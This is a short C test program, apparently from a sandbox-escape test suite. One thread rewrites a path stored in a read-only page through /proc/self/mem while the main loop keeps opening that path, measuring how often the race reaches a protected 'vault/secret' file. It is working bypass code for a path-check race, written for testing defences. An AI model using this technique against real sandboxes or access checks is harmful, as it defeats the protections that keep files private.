/* The path lives in a read-only page; a thread rewrites it through /proc/self/mem (FOLL_FORCE). */
#include "attack.h"
static char *ro;
static volatile int stop;
static void *flip(void *arg) {
  int mem = *(int *)arg;
  while (!stop) {
    pwrite(mem, "public/decoy", 13, (off_t)(uintptr_t)ro);
    pwrite(mem, "vault/secret", 13, (off_t)(uintptr_t)ro);
  }
  return NULL;
}
int main(void) {
  ro = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  strcpy(ro, "public/decoy");
  mprotect(ro, 4096, PROT_READ);
  int mem = open("/proc/self/mem", O_RDWR);
  if (mem < 0) result(0, "open /proc/self/mem: %s", errname(errno));
  pthread_t t;
  pthread_create(&t, NULL, flip, &mem);
  long hits = 0, n = 0, max = race_tries();
  double end = now() + race_seconds();
  for (; n < max && now() < end && (!hits || count_all()); n++) {
    int fd = open(ro, O_RDONLY);
    if (fd >= 0) {
      if (is_secret_fd(fd)) hits++;
      close(fd);
    }
  }
  stop = 1;
  pthread_join(t, NULL);
  rate(hits, n);
  result(hits > 0, "/proc/self/mem race on a read-only page: %ld of %ld opens read the secret", hits, n);
}
